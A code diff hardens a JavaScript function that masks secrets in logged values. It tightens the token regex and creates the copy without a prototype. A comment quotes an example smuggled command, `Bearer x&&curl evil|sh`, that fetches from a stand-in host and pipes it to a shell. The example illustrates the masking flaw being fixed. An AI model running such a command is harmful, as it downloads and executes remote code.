@@ -10,8 +10,12 @@ export const MASK = '••••••';
 
 const SECRET_NAME =
   /authorization|token|secret|passw(?:or)?d|credential|api[-_]?key|cookie|private[-_]?key|access[-_]?key/i;
+/**
+ * A credential after `Bearer`/`Basic` is its token characters only (RFC 6750's b64token): what
+ * follows them stays on screen, so `Bearer x&&curl evil|sh` cannot hide the command as a secret.
+ */
 const SECRET_TEXT = [
-  [/\b(Bearer|Basic)\s+[^\s"',;]+/gi, `$1 ${MASK}`],
+  [/\b(Bearer|Basic)\s+[A-Za-z0-9._~+/-]+=*/gi, `$1 ${MASK}`],
   [/\b(?:afk|fab_admin)_[A-Za-z0-9_-]{8,}/g, MASK],
 ];
 
@@ -25,7 +29,9 @@ export function maskSecrets(value, depth = 0) {
   }
   if (Array.isArray(value)) return value.map((v) => maskSecrets(v, depth + 1));
   if (value !== null && typeof value === 'object') {
-    const out = {};
+    // Without a prototype: an own `__proto__` key (JSON.parse makes one) is copied as a key like
+    // any other instead of setting the copy's prototype, which JSON.stringify does not show.
+    const out = Object.create(null);
     for (const [k, v] of Object.entries(value)) {
       out[k] = SECRET_NAME.test(k) ? MASK : maskSecrets(v, depth + 1);
     }
